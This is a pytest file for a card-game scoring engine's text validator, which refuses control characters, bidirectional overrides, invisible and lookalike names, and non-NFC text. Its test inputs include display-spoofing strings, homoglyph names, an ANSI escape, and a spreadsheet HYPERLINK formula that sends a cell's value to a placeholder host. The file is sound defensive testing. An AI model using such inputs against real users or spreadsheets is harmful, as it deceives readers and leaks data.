"""The free-text boundary (protocol.rules.text) and the engine's use of it: no database."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from protocol.rules import evaluate, text
from tests.unit.builders import PLAYERS, document, quiet

CONTROL = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"] + ["\x7f", "\x85"]


@pytest.mark.parametrize("char", CONTROL)
def test_a_control_character_in_a_name_is_refused_naming_the_field_and_the_character(char):
    problem = text.name_problem(f"Gast{char}X", "Gäste")
    assert problem is not None and "„Gäste“" in problem
    assert f"U+{ord(char):04X}" in problem


def test_nul_and_lone_surrogates_are_refused_even_in_a_reason():
    assert "Nullzeichen" in text.reason_problem("zu\x00spät")
    assert "Surrogat" in text.reason_problem("zu\ud800spät")
    assert "Surrogat" in text.name_problem("\udfffAnna")


def test_a_reason_may_have_several_lines_and_tabs_but_a_name_may_not():
    assert text.reason_problem("Karte gezeigt\r\nund\tgelacht") is None
    assert "Steuerzeichen" in text.name_problem("Anna\nB")


@pytest.mark.parametrize("invisible", ["\u200b", "\u200b\u200d", "\u200f", "\ufeff", " \u00ad "])
def test_a_name_made_only_of_invisible_characters_is_refused(invisible):
    assert "unsichtbaren Zeichen" in text.name_problem(invisible, "Name")


BIDI_CONTROLS = [chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]]


@pytest.mark.parametrize("char", BIDI_CONTROLS)
def test_a_bidi_control_is_refused_in_a_name_and_a_reason_naming_it(char):
    # "Anna\u202e001" reads "Anna100" on a table: the text after it turned around
    problem = text.name_problem(f"Anna{char}001", "Gäste")
    assert problem == (f"„Gäste“ enthält ein Steuerzeichen der Schreibrichtung (U+{ord(char):04X}), das den Text "
                       "danach umgekehrt anzeigen kann; bitte entfernen.")
    assert f"U+{ord(char):04X}" in text.reason_problem(f"zu spät{char}\nund laut")
    assert "\u202e" not in text.visible("x\u202ey")  # the fold still reads past it: invisible


def test_marks_of_direction_and_joiners_stay_allowed_inside_a_name():
    # LRM/RLM order nothing around them; ZWJ and ZWNJ belong to emoji and many scripts
    for name in ("\u05d0\u05d1\u200f 2", "Anna \U0001f468\u200d\U0001f469", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0645"):
        assert text.name_problem(name) is None


def test_a_text_not_in_nfc_is_refused_and_normalise_gives_nfc():
    decomposed = "Jo\u0308rg"  # ö as o + combining diaeresis (a Mac file)
    assert "NFC" in text.name_problem(decomposed)
    assert text.normalise(decomposed) == "Jörg"
    assert text.name_problem(text.normalise(decomposed)) is None
    assert text.normalise_strings({"players": [decomposed], "n": 1}) == {"players": ["Jörg"], "n": 1}


def test_lengths_are_checked_with_the_number_of_characters():
    assert text.name_problem("x" * 80) is None
    assert "höchstens 80 Zeichen, nicht 81" in text.name_problem("x" * 81)
    assert "höchstens 500" in text.reason_problem("x" * 501)


@pytest.mark.parametrize("a, b", [("Bernd", "bernd"), ("Bernd", "BERND"), ("Anna", "\u0410nna"),
                                  ("Max Müller", "Max  Müller"), ("Otto", "Οtto"), ("Anna", "Ａｎｎａ"),
                                  ("Anna", "An\u200bna")])
def test_names_that_differ_only_by_case_or_lookalike_letters_fold_alike(a, b):
    assert text.fold(a) == text.fold(b)
    assert text.lookalikes([a, "Carla", b]) == [(a, b)]


def test_different_names_stay_different():
    assert text.lookalikes(["Anna", "Anne", "Bernd", "Bernt", "Jörg", "Jorg"]) == []


def test_formula_like_names_are_fine_texts():
    for name in ("=1+1", "+49", "-x", "@home", '=HYPERLINK("http://x?"&A2,"D")'):
        assert text.name_problem(name) is None


@given(st.text(max_size=20))
def test_the_validator_answers_any_text_with_a_message_or_none(value):
    problem = text.text_problem(value, "Feld", max_length=10, required=True)
    assert problem is None or "„Feld“" in problem
    if problem is None:
        assert text.visible(value) and len(value) <= 10


def _every_problem(value, skip, path=()):
    """Each string's problem with its path, one value at a time: what string_problems answers."""
    if isinstance(value, str):
        problem = text.text_problem(value, str(path[-1]) if path else "Text", multiline=True)
        return [(path, problem)] if problem else []
    if isinstance(value, list):
        return [found for i, item in enumerate(value) for found in _every_problem(item, skip, (*path, i))]
    if isinstance(value, dict):
        return [found for key, item in value.items() if key not in skip
                for found in _every_problem(item, skip, (*path, key))]
    return []


JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=6),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from("abcr"), inner, max_size=4),
                    max_leaves=25)


@given(JSON)
def test_every_bad_string_of_a_document_is_named_at_its_place_whatever_the_document(value):
    """A document of plain texts is passed in one walk; any other is searched value by value:
    either way each problem comes with its path, in the document's order."""
    assert list(text.string_problems(value, frozenset("r"))) == _every_problem(value, frozenset("r"))


# -- the engine refuses the same input ------------------------------------------------------

def test_the_engine_refuses_a_player_with_a_control_character():
    players = ["Anna", "Bernd", "Carla", "Gast\x01X"]
    errors = evaluate(document([quiet(players)], players=players)).errors
    assert [(e.field, e.message) for e in errors] == [
        ("players", "„Spieler 4“ enthält ein Steuerzeichen (U+0001); bitte entfernen.")]


def test_the_engine_refuses_a_player_and_texts_anywhere_in_the_document_with_a_bidi_control():
    players = ["Anna", "Bernd", "Carla", "Gast\u2067X"]
    errors = evaluate(document([quiet(players)], players=players)).errors
    assert [(e.field, e.message) for e in errors] == [
        ("players", "„Spieler 4“ enthält ein Steuerzeichen der Schreibrichtung (U+2067), das den Text danach "
                    "umgekehrt anzeigen kann; bitte entfernen.")]
    doc = document([quiet(), {"annul_match": {"reason": "Karten \u202dfehlen"}}])
    doc["place"] = "N\u202ertingen"
    doc["events"][0]["game"]["annul_reason"] = "\u2066x"
    errors = {(e.event, e.field): e.message for e in evaluate(doc).errors}
    assert {key: "Schreibrichtung" in message for key, message in errors.items()} == {
        (None, "place"): True, (1, "reason"): True, (0, "annul_reason"): True}


@pytest.mark.parametrize("players", [["Anna", "Bernd", "Carla", "bernd"], ["Max", "Bernd", "Carla", "M\u0430x"]])
def test_the_engine_refuses_players_nobody_could_tell_apart(players):
    errors = evaluate(document([quiet(players)], players=players)).errors
    assert len(errors) == 1 and errors[0].field == "players" and "kaum zu unterscheiden" in errors[0].message


@pytest.mark.parametrize("reason, words", [("zu\x00spät", "Nullzeichen"), ("\x1b[31m", "Steuerzeichen"),
                                           ("\u200b", "unsichtbaren"), ("x" * 501, "höchstens 500"),
                                           ("zu spät \u202e001", "Schreibrichtung (U+202E)")])
def test_the_engine_refuses_a_bad_reason_of_a_strafe(reason, words):
    events = [quiet(), {"penalty": {"player": "Anna", "points": 100, "reason": reason,
                                    "decided_by": ["Bernd", "Carla"]}}]
    errors = evaluate(document(events)).errors
    assert [(e.event, e.field) for e in errors] == [(1, "reason")] and words in errors[0].message


@pytest.mark.parametrize("ruleset", ["doppelkopf", "tarot"])
def test_the_tally_games_refuse_a_bad_warning_reason(ruleset):
    players = PLAYERS
    doc = {"format": "protocol/1", "ruleset": ruleset, "players": players, "scorekeeper": "Anna",
           "settings": {"rules": "tcg"} if ruleset == "doppelkopf" else {},
           "events": [{"warning": {"player": "Anna", "reason": "laut\x07"}}]}
    errors = evaluate(doc).errors
    assert [(e.event, e.field) for e in errors] == [(0, "reason")], errors
    assert "U+0007" in errors[0].message


def test_the_engine_refuses_nul_and_surrogates_anywhere_else_in_the_document():
    doc = document([quiet()])
    doc["place"] = "Nür\x00tingen"
    doc["events"].append({"annul_match": {"reason": "Karten\ud83d fehlen"}})
    doc["events"][0]["game"]["annul_reason"] = "\x01"
    doc["events"][0]["game"]["trump"]["value"] = "rot\x00"
    errors = {(e.event, e.field): e.message for e in evaluate(doc).errors}
    assert "Nullzeichen" in errors[(None, "place")]
    assert "Surrogat" in errors[(1, "reason")]
    assert "U+0001" in errors[(0, "annul_reason")]
    assert "Nullzeichen" in errors[(0, "value")]


def test_a_valid_document_with_formula_like_names_is_fine():
    players = ["=1+1", "+49", "-x", "@home"]
    assert evaluate(document([quiet(players)], players=players)).ok
